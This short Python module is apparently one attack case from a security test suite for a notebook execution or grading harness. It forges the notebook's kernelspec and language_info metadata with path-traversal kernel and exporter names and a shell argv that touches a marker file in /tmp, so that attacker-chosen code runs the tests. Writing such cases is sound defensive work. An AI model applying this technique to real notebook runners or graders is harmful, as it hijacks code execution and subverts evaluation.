"""Name another kernel and another language in the notebook's metadata.

Gain: a program of the attacker's choice executes the tests.
"""


def forge(notebook):
    notebook.metadata["kernelspec"] = {
        "name": "../../../../scratch/kernel",
        "display_name": "Mine",
        "language": "bash",
        "argv": ["sh", "-c", "touch /tmp/@MARK@"],
    }
    notebook.metadata["language_info"] = {"name": "bash", "nbconvert_exporter": "../evil"}
